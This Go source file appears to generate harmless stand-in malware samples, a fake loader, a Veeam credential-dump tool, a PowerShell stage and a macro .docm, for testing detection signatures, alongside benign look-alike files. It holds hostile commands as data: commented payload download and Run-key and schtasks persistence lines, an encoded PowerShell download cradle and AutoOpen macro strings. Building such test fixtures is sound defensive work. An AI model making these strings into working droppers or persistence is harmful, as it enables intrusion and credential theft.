package example

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"time"
)

// artifact is a generated file and what Sysmon would log about it.
type artifact struct {
	content []byte
	hashes  string
	meta    [5]string
}

type artifacts struct {
	loader, tool artifact
	stage2, doc  []byte
}

var loaderImports = []peImport{
	{"KERNEL32.dll", []string{"VirtualAlloc", "VirtualProtect", "CreateThread", "WaitForSingleObject", "Sleep", "GetTempPathW", "CreateMutexW", "GetLastError"}},
	{"WININET.dll", []string{"InternetOpenW", "InternetConnectW", "HttpOpenRequestW", "HttpSendRequestW", "InternetReadFile", "InternetCloseHandle"}},
	{"ADVAPI32.dll", []string{"RegSetValueExW", "RegOpenKeyExW", "RegCloseKey"}},
}

var toolImports = []peImport{
	{"KERNEL32.dll", []string{"GetCommandLineW", "WriteConsoleW", "ExitProcess"}},
	{"WS2_32.dll", []string{"WSAStartup", "socket", "connect", "send", "recv", "closesocket"}},
	{"CRYPT32.dll", []string{"CryptUnprotectData"}},
}

func makeArtifacts() *artifacts {
	loader := buildPE(peSpec{
		timestamp: 0x65D8A3F1,
		imports:   loaderImports,
		rdata: []string{
			"updhelper.exe", `C:\build\updhelper\x64\Release\updhelper.pdb`,
			"UHLP/3.2 beacon interval=%u jitter=%u", "-silent", "task:sleep", "task:exec", "task:upload",
		},
		data: []string{"https://cdn-update-check.example/api/v2/poll", "Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
		wide: []string{"Global\\UHLP-7f3a91c2", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0 UHLP", "UpdateHelper"},
	})
	tool := buildPE(peSpec{
		timestamp: 0x641C0E22,
		console:   true,
		imports:   toolImports,
		rdata: []string{
			"vbrcreds", "usage: vbrcreds --target HOST:PORT --dump",
			"net.tcp://%s/%s", "Veeam.Backup.Interaction.MountService", "CredentialsDbScope.GetAllCreds",
			"[+] dumped %d credential(s)",
		},
		data: []string{"CVE-2023-27532"},
	})
	return &artifacts{
		loader: artifact{content: loader, hashes: realHashes(loader, imphash(loaderImports)),
			meta: [5]string{"3.2.1.0", "Update Helper Service", "Update Helper", "-", "updhelper.exe"}},
		tool:   artifact{content: tool, hashes: realHashes(tool, imphash(toolImports)), meta: [5]string{"-", "-", "-", "-", "-"}},
		stage2: []byte(stage2Script),
		doc:    makeDocm(),
	}
}

// stage2Script is a harmless stand-in for the second-stage script: it has
// the shape and the strings of one, but every action is a comment or a
// Write-Output.
const stage2Script = "# ANTIBODY EXAMPLE ARTIFACT: a harmless stand-in written for tests. It performs no action.\r\n" +
	"$ErrorActionPreference = 'SilentlyContinue'\r\n" +
	"$u = 'https://cdn-update-check.example/dl/update_helper.bin'\r\n" +
	"$d = Join-Path $env:APPDATA 'UpdateHelper'\r\n" +
	"$p = Join-Path $d 'update_helper.exe'\r\n" +
	"function Invoke-UHStage {\r\n" +
	"    param([string]$Url, [string]$Path)\r\n" +
	"    # real sample: (New-Object Net.WebClient).DownloadFile($Url, $Path)\r\n" +
	"    Write-Output \"stage: $Url -> $Path\"\r\n" +
	"}\r\n" +
	"function Set-UHPersistence {\r\n" +
	"    # real sample: Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name UpdateHelper -Value \"`\"$p`\" -silent\"\r\n" +
	"    # real sample: schtasks /create /tn '\\Microsoft\\Windows\\UpdateOrchestrator\\UpdateHelper' /tr \"'$p' -silent\" /sc onlogon /rl highest /f\r\n" +
	"    Write-Output 'persist: Run\\UpdateHelper, task UpdateHelper'\r\n" +
	"}\r\n" +
	"$k = [Convert]::FromBase64String('VUhMUC03ZjNhOTFjMg==')\r\n" +
	"Invoke-UHStage -Url $u -Path $p\r\n" +
	"Set-UHPersistence\r\n" +
	"# UHLP-7f3a91c2\r\n"

// zipFile writes a deterministic zip archive (fixed times, given order).
func zipFile(files [][2]string) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, f := range files {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f[0], Method: zip.Deflate, Modified: time.Date(2026, 2, 27, 16, 4, 0, 0, time.UTC)})
		if err != nil {
			panic(err)
		}
		if _, err := w.Write([]byte(f[1])); err != nil {
			panic(err)
		}
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`

const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`

func document(text string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>` + text + `</w:t></w:r></w:p></w:body></w:document>`
}

// makeDocm builds the phishing document's stand-in: an OOXML package whose
// vbaProject.bin holds the macro's strings as plain text, not a working
// VBA project.
func makeDocm() []byte {
	vba := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + // OLE signature, as vbaProject.bin starts
		"ANTIBODY EXAMPLE ARTIFACT: not a working VBA project.\x00" +
		"Attribute VB_Name = \"ThisDocument\"\x00Sub AutoOpen()\x00Sub Document_Open()\x00" +
		"CreateObject(\"WScript.Shell\").Run\x00" +
		"powershell -nop -w hidden -enc \x00" +
		"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\x00" +
		"Chr(112) & Chr(111) & Chr(119)\x00"
	return zipFile([][2]string{
		{"[Content_Types].xml", contentTypes},
		{"_rels/.rels", rels},
		{"word/document.xml", document("This document was created in a newer version of Microsoft Office. Enable editing and enable content to view the invoice 0342.")},
		{"word/vbaProject.bin", vba},
	})
}

// benignFiles are goodware stand-ins: near misses for careless signatures.
func benignFiles() map[string][]byte {
	agent := buildPE(peSpec{
		timestamp: 0x65A1B2C3,
		imports: []peImport{
			{"KERNEL32.dll", []string{"CreateThread", "WaitForSingleObject", "Sleep", "GetTempPathW", "CreateMutexW"}},
			{"WININET.dll", []string{"InternetOpenW", "InternetConnectW", "HttpOpenRequestW", "HttpSendRequestW", "InternetReadFile", "InternetCloseHandle"}},
		},
		rdata: []string{"CorvidInventoryAgent.exe", `D:\ci\inventory-agent\bin\Release\CorvidInventoryAgent.pdb`, "inventory interval=%u"},
		data:  []string{"https://inventory.corvid.example/api/v1/report"},
		wide:  []string{"Global\\CorvidInventoryAgent", "CorvidInventoryAgent/4.1"},
	})
	updater := buildPE(peSpec{
		timestamp: 0x65C0FFEE,
		console:   true,
		imports: []peImport{
			{"KERNEL32.dll", []string{"GetCommandLineW", "ExitProcess", "GetTempPathW"}},
			{"ADVAPI32.dll", []string{"RegSetValueExW", "RegOpenKeyExW", "RegCloseKey"}},
		},
		rdata: []string{"PrinterDriverUpdate.exe", "-silent", "Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
		wide:  []string{"PrinterDriverUpdate"},
	})
	return map[string][]byte{
		"CorvidInventoryAgent.exe": agent,
		"PrinterDriverUpdate.exe":  updater,
		"Get-DiskReport.ps1":       []byte(diskReport),
		"Invoice_0339_February.docx": zipFile([][2]string{
			{"[Content_Types].xml", contentTypes},
			{"_rels/.rels", rels},
			{"word/document.xml", document("Invoice 0339: freight services February 2026. Payment due within 30 days.")},
		}),
	}
}

const diskReport = "<#\r\n.SYNOPSIS\r\nReports free disk space on file servers; run weekly by IT operations.\r\n#>\r\n" +
	"param([string[]]$Servers = @('FS01', 'FS02'))\r\n" +
	"$ErrorActionPreference = 'Stop'\r\n" +
	"$report = foreach ($s in $Servers) {\r\n" +
	"    Get-CimInstance -ComputerName $s -ClassName Win32_LogicalDisk -Filter 'DriveType=3' |\r\n" +
	"        Select-Object @{n='Server';e={$s}}, DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}}\r\n" +
	"}\r\n" +
	"$report | Export-Csv -NoTypeInformation -Path \"\\\\FS01\\IT$\\reports\\disk-$(Get-Date -Format yyyyMMdd).csv\"\r\n" +
	"Invoke-WebRequest -UseBasicParsing -Method Post -Uri 'https://itops.corvid.example/hooks/disk' -Body ($report | ConvertTo-Json)\r\n"

func mustJSON(v any) []byte {
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		panic(err)
	}
	return append(b, '\n')
}
